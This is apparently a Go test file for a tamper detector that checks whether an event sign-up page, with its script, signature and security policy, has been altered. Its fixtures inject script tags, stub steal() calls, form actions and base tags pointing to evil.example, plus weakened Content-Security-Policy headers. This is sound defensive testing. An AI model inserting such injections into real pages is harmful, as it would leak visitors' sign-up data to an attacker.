package stranger_test

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha512"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"filippo.io/age"
	"github.com/google/go-cmp/cmp"

	"daykit/internal/central/server"
	"daykit/internal/data/sync/stranger"
	"daykit/internal/data/wire"
)

const eventID = "7KQ2M9XD"

var (
	now      = time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)
	groupKey = ed25519.NewKeyFromSeed([]byte("the key of a group, for testing!"))
	otherKey = ed25519.NewKeyFromSeed([]byte("another key, also for a testing!"))
)

// scriptOf gives a script of an edition, as the build makes it.
func scriptOf(edition int, code string) []byte {
	return fmt.Appendf(nil, "/*! Daykit sign-up script, edition %d */%s", edition, code)
}

var honest = scriptOf(5, "'use strict'")

func statement(t *testing.T, ask wire.Ask) wire.Statement {
	t.Helper()
	id, err := age.GenerateHybridIdentity()
	if err != nil {
		t.Fatal(err)
	}
	return wire.Statement{Version: 1, Event: eventID, Recipient: id.Recipient().String(), NotAfter: "2026-12-18T20:30:00Z", Ask: ask}
}

func signed(key ed25519.PrivateKey, s wire.Statement) wire.SignedStatement {
	text := string(wire.Raw(s))
	return wire.SignedStatement{
		Statement: text, Key: key.Public().(ed25519.PublicKey),
		Signature: ed25519.Sign(key, wire.Purposed(wire.PurposeSignup, []byte(text))),
	}
}

// shelf is a store with one page.
type shelf struct {
	server.Store
	page wire.Page
}

func (s *shelf) Page(context.Context, string) (server.Published, error) {
	raw, err := json.Marshal(s.page)
	return server.Published{Event: eventID, Group: "Riverside", Page: raw}, err
}

// site is the product's own server, in whose answers somebody may have a hand.
type site struct {
	shelf  shelf
	script []byte
	asked  []*http.Request

	tamper func(r *http.Request, h http.Header, body string) string // nil is honest
	answer func(http.ResponseWriter, *http.Request) bool            // true: it has answered
}

func newSite(t *testing.T) *site {
	t.Helper()
	ask := wire.Ask{Name: true, Contact: true, Party: 6, Ticks: []string{"volunteer"}, Food: []string{"halal"}, Access: []string{"bsl"}}
	return &site{script: honest, shelf: shelf{page: wire.Page{
		Title: map[string]string{"en": "A shared table & more", "ur": "نمونہ"}, Group: "Riverside", Date: "2026-12-18", Start: "17:30", End: "20:30",
		Timezone: "Europe/London", Place: "Inspire Centre", Languages: []string{"en", "ur"},
		Signup: &wire.PageSignup{State: wire.SignupOpen, Statement: signed(groupKey, statement(t, ask))},
	}}}
}

// start serves it and gives what the group published there.
func (s *site) start(t *testing.T) stranger.Published {
	t.Helper()
	own := s.shelf.page.Signup.Statement
	h := httptest.NewUnstartedServer(nil)
	h.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.asked = append(s.asked, r)
		if s.answer != nil && s.answer(w, r) {
			return
		}
		real := server.New(server.Config{
			Store: &s.shelf, Now: func() time.Time { return now }, Rand: rand.Reader, Log: slog.New(slog.DiscardHandler),
			PublicURL: "http://" + r.Host, Script: s.script,
		})
		r.Header.Del("Accept-Encoding")
		got := httptest.NewRecorder()
		real.ServeHTTP(got, r)
		body := got.Body.String()
		if s.tamper != nil {
			body = s.tamper(r, got.Header(), body)
			got.Header().Del("Content-Length")
		}
		for k, v := range got.Header() {
			w.Header()[k] = v
		}
		w.WriteHeader(got.Code)
		_, _ = w.Write([]byte(body))
	})
	h.Start()
	t.Cleanup(h.Close)
	return stranger.Published{
		Address: strings.ToUpper(h.URL) + "/E/" + eventID + "/" + wire.KeyFingerprint(own.Key), Event: eventID,
		Titles: []string{"A shared table & more"}, Fingerprint: wire.KeyFingerprint(groupKey.Public().(ed25519.PublicKey)), Signed: own,
	}
}

// look looks once, with the scripts that a program of edition 5 knows.
func look(t *testing.T, p stranger.Published) (stranger.Look, error) {
	t.Helper()
	known, err := stranger.Known(honest, fmt.Sprintf("# newest first\n4 %x\n\n3 %x\n", sha512.Sum384(scriptOf(4, "four")), sha512.Sum384(scriptOf(3, "three"))))
	if err != nil {
		t.Fatal(err)
	}
	s := stranger.New(nil, known)
	t.Cleanup(s.Close)
	return s.Look(t.Context(), p)
}

// onPage changes the page alone.
func onPage(old, fresh string) func(*http.Request, http.Header, string) string {
	return func(r *http.Request, _ http.Header, body string) string {
		if strings.HasSuffix(r.URL.Path, ".js") {
			return body
		}
		if !strings.Contains(body, old) {
			panic("the page has no " + old)
		}
		return strings.Replace(body, old, fresh, 1)
	}
}

func TestHonestPage(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	got, err := look(t, s.start(t))
	if err != nil || len(got.Findings) != 0 || got.Edition != 5 || got.Older {
		t.Fatalf("got %+v, %v", got, err)
	}
	if len(s.asked) != 2 {
		t.Fatalf("asked %d times", len(s.asked))
	}
	for _, r := range s.asked {
		for _, h := range []string{"Authorization", "Cookie", "Referer"} {
			if v := r.Header.Get(h); v != "" {
				t.Errorf("%s says %s: %q", r.URL, h, v)
			}
		}
		if a := r.UserAgent(); !strings.HasPrefix(a, "Mozilla/5.0 ") || strings.Contains(strings.ToLower(a), "daykit") {
			t.Errorf("calls itself %q", a)
		}
	}
}

// TestOtherHonestPages: what organisers choose and other releases do is no tampering.
func TestOtherHonestPages(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*site){
		"full":         func(s *site) { s.shelf.page.Signup.State = wire.SignupFull },
		"moved":        func(s *site) { s.shelf.page.Signup.State = wire.SignupMoved },
		"asks nothing": func(s *site) { s.shelf.page.Signup.Statement = signed(groupKey, statement(t, wire.Ask{})) },
		"words like code": func(s *site) {
			s.shelf.page.About = map[string]string{"en": `<script src="https://evil.example/x.js"> onclick= url(x)`}
		},
		"an older script": func(s *site) { s.script = scriptOf(4, "four") },
	} {
		s := newSite(t)
		change(s)
		got, err := look(t, s.start(t))
		if err != nil || len(got.Findings) != 0 || got.Older != (name == "an older script") {
			t.Errorf("%s: got %+v, %v", name, got, err)
		}
	}
}

func TestTampering(t *testing.T) {
	t.Parallel()
	policy := func(change func(string) string) func(*site) {
		return func(s *site) {
			s.tamper = func(_ *http.Request, h http.Header, body string) string {
				h.Set("Content-Security-Policy", change(h.Get("Content-Security-Policy")))
				return body
			}
		}
	}
	page := func(old, fresh string) func(*site) { return func(s *site) { s.tamper = onPage(old, fresh) } }
	for name, c := range map[string]struct {
		change func(*site)
		want   []stranger.Finding
	}{
		"another script":                   {func(s *site) { s.script = scriptOf(5, "steal()") }, []stranger.Finding{stranger.OtherScript}},
		"a script without a number":        {func(s *site) { s.script = []byte("steal()") }, []stranger.Finding{stranger.OtherScript}},
		"a script that calls itself newer": {func(s *site) { s.script = scriptOf(6, "steal()") }, []stranger.Finding{stranger.NewerScript}},
		"an older number, other bytes":     {func(s *site) { s.script = scriptOf(4, "steal()") }, []stranger.Finding{stranger.OtherScript}},
		"one byte more": {func(s *site) {
			s.tamper = func(r *http.Request, _ http.Header, body string) string {
				if strings.HasSuffix(r.URL.Path, ".js") {
					body += ";"
				}
				return body
			}
		}, []stranger.Finding{stranger.AnySum, stranger.OtherScript}},
		"no script":                    {func(s *site) { s.script = nil }, []stranger.Finding{stranger.NoScript}},
		"no sum":                       {page(`integrity="`, `data-was="`), []stranger.Finding{stranger.AnySum}},
		"a second":                     {page("</head>", `<script src="/more.js"></script></head>`), []stranger.Finding{stranger.MoreCode}},
		"a second of theirs":           {page("</head>", `<script src="https://evil.example/a.js"></script></head>`), []stranger.Finding{stranger.MoreCode, stranger.Elsewhere}},
		"in the page":                  {page("</body>", `<script>steal()</script></body>`), []stranger.Finding{stranger.MoreCode}},
		"a handler":                    {page(`<form id="signup"`, `<form onsubmit="steal()" id="signup"`), []stranger.Finding{stranger.MoreCode}},
		"a frame":                      {page("</main>", `<iframe src="/x"></iframe></main>`), []stranger.Finding{stranger.MoreCode}},
		"an address of code":           {page("</main>", `<a href=" JavaScript:steal()">x</a></main>`), []stranger.Finding{stranger.MoreCode}},
		"a form for who has no script": {page("</main>", `<noscript><form action="/x"></form></noscript></main>`), []stranger.Finding{stranger.MoreCode}},
		"a base":                       {page("<head>", `<head><base href="https://evil.example/">`), []stranger.Finding{stranger.MoreCode, stranger.Elsewhere}},
		"a picture":                    {page("</main>", `<img src="//evil.example/p.gif"></main>`), []stranger.Finding{stranger.Elsewhere}},
		"a style":                      {page("</head>", `<style>body{background:url(https://evil.example/)}</style></head>`), []stranger.Finding{stranger.Elsewhere}},
		"a refresh":                    {page("<head>", `<head><meta http-equiv=Refresh content="1;url=https://evil.example/">`), []stranger.Finding{stranger.Elsewhere}},
		"a form elsewhere":             {page(`action="/e/`, `action="https://evil.example/e/`), []stranger.Finding{stranger.Elsewhere}},
		"a form to another event":      {page(`action="/e/7KQ2M9XD`, `action="/e/00000000`), []stranger.Finding{stranger.Elsewhere}},
		"a button elsewhere":           {page(`type="submit"`, `type="submit" formaction="\\evil.example/x"`), []stranger.Finding{stranger.Elsewhere}},
		"another question":             {page(`<input type="hidden"`, `<input name="passport"><input type="hidden"`), []stranger.Finding{stranger.Fields}},
		"no policy":                    {policy(func(string) string { return "" }), []stranger.Finding{stranger.Policy}},
		"a wide policy":                {policy(func(string) string { return "default-src *" }), []stranger.Finding{stranger.Policy}},
		"code in the page allowed":     {policy(func(p string) string { return p + "; script-src-elem 'unsafe-inline'" }), []stranger.Finding{stranger.Policy}},
		"another host allowed": {policy(func(p string) string {
			return strings.Replace(p, "connect-src 'self'", "connect-src 'self' https://evil.example", 1)
		}), []stranger.Finding{stranger.Policy}},
		"another key": {func(s *site) {
			s.shelf.page.Signup.Statement = signed(otherKey, statement(t, wire.Ask{Name: true}))
		}, []stranger.Finding{stranger.Unsigned}},
		"a broken signature": {page(`data-signature="`, `data-signature="AAAA`), []stranger.Finding{stranger.Unsigned}},
		"an older statement": {func(s *site) {
			s.shelf.page.Signup.Statement = signed(groupKey, statement(t, wire.Ask{Name: true}))
		}, []stranger.Finding{stranger.OtherSigned}},
		"closed": {func(s *site) { s.shelf.page.Signup.State = wire.SignupClosed }, []stranger.Finding{stranger.NoForm}},
		"code, and a script that does not come": {func(s *site) {
			s.answer = func(w http.ResponseWriter, r *http.Request) bool {
				if strings.HasSuffix(r.URL.Path, ".js") {
					w.WriteHeader(http.StatusServiceUnavailable)
					return true
				}
				return false
			}
			s.tamper = onPage("</main>", `<script>steal()</script></main>`)
		}, []stranger.Finding{stranger.MoreCode}},
		"closed, with code": {func(s *site) {
			s.shelf.page.Signup.State = wire.SignupClosed
			s.tamper = onPage("</main>", `<input name="name"><script>steal()</script></main>`)
		}, []stranger.Finding{stranger.MoreCode, stranger.NoForm}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSite(t)
			at := s.start(t)
			c.change(s)
			got, err := look(t, at)
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(c.want, got.Findings); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

func unseen(err error) bool {
	var u *stranger.UnseenError
	return errors.As(err, &u) && u.Why != ""
}

// TestNetworksBetween: what stands between laptop and server is never tampering.
func TestNetworksBetween(t *testing.T) {
	t.Parallel()
	login := func(body string) func(http.ResponseWriter, *http.Request) bool {
		return func(w http.ResponseWriter, _ *http.Request) bool {
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(body))
			return true
		}
	}
	for name, change := range map[string]func(*site){
		"login page": func(s *site) {
			s.answer = login("<html><form action=https://portal.example/><input name=user></form></html>")
		},
		"page that says the address": func(s *site) {
			s.answer = login("<html><p>You want http://day.example/E/" + eventID + "<a href=x>Go on</a></html>")
		},
		"login page for the script": func(s *site) {
			s.answer = func(w http.ResponseWriter, r *http.Request) bool {
				return strings.HasSuffix(r.URL.Path, ".js") && login("<html>Hello</html>")(w, r)
			}
		},
		"another kind": func(s *site) {
			s.tamper = func(_ *http.Request, h http.Header, b string) string {
				h.Set("Content-Type", "application/json")
				return b
			}
		},
		"cut off": func(s *site) {
			s.tamper = func(_ *http.Request, _ http.Header, b string) string { return b[:len(b)/2] }
		},
		"too much": func(s *site) {
			s.tamper = func(_ *http.Request, _ http.Header, b string) string {
				return b + strings.Repeat(" ", 5<<20) + "</html>"
			}
		},
		"a script not there": func(s *site) {
			s.answer = func(w http.ResponseWriter, r *http.Request) bool {
				if strings.HasSuffix(r.URL.Path, ".js") {
					w.WriteHeader(http.StatusNotFound)
					return true
				}
				return false
			}
		},
		"busy": func(s *site) {
			s.answer = func(w http.ResponseWriter, _ *http.Request) bool {
				w.WriteHeader(http.StatusServiceUnavailable)
				return true
			}
		},
		"elsewhere": func(s *site) {
			s.answer = func(w http.ResponseWriter, r *http.Request) bool {
				http.Redirect(w, r, "http://portal.example/login", http.StatusFound)
				return true
			}
		},
		"nothing": func(s *site) {
			s.answer = func(http.ResponseWriter, *http.Request) bool { panic(http.ErrAbortHandler) }
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSite(t)
			at := s.start(t)
			change(s)
			if got, err := look(t, at); !unseen(err) {
				t.Errorf("got %+v, %v", got, err)
			}
		})
	}
}

// TestSlowNetwork: a look that takes too long is none.
func TestSlowNetwork(t *testing.T) {
	t.Parallel()
	h := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }))
	t.Cleanup(h.Close)
	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	s := stranger.New(h.Client(), nil)
	defer s.Close()
	if _, err := s.Look(ctx, stranger.Published{Address: h.URL + "/E/" + eventID}); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("got %v", err)
	}
}

func TestKnown(t *testing.T) {
	t.Parallel()
	if got, err := stranger.Known(nil, "1 00"); got != nil || err != nil {
		t.Errorf("without a script: %v, %v", got, err)
	}
	own := fmt.Sprintf("5 %x\n4 %x", sha512.Sum384(honest), sha512.Sum384(nil))
	if got, err := stranger.Known(honest, own); err != nil || len(got) != 2 || got[0].Edition != 5 || got[1].Edition != 4 {
		t.Errorf("got %v, %v", got, err)
	}
	for _, bad := range []string{"x", "1", "1 00", "1 zz", "x " + strings.Repeat("00", 48)} {
		if got, err := stranger.Known(honest, bad); err == nil {
			t.Errorf("%q: got %v", bad, got)
		}
	}
}

// FuzzLook: whatever a server sends, a look ends with findings or without having seen.
func FuzzLook(f *testing.F) {
	f.Add([]byte(`<!doctype html><html><form data-event="7KQ2M9XD" action=/e/7KQ2M9XD/signup data-statement="{}"><script src="/a.js" src="/b.js"></script></form></html>`), "default-src 'none'")
	f.Add([]byte("<svg><a xlink:href='//x'><style>\\75rl(</style></html>"), ", ;; script-src")
	f.Fuzz(func(t *testing.T, body []byte, policy string) {
		s := stranger.New(&http.Client{Transport: canned{body, policy}}, nil)
		_, err := s.Look(t.Context(), stranger.Published{Address: "https://day.example.org/E/" + eventID, Event: eventID, Titles: []string{"table"}})
		if err != nil && !unseen(err) {
			t.Errorf("got %v", err)
		}
	})
}

// canned answers everything alike.
type canned struct {
	body   []byte
	policy string
}

// RoundTrip implements http.RoundTripper.
func (c canned) RoundTrip(r *http.Request) (*http.Response, error) {
	w := httptest.NewRecorder()
	w.Header().Set("Content-Type", "text/html")
	w.Header().Set("Content-Security-Policy", c.policy)
	_, err := w.Write(c.body)
	resp := w.Result()
	resp.Request = r
	return resp, err
}
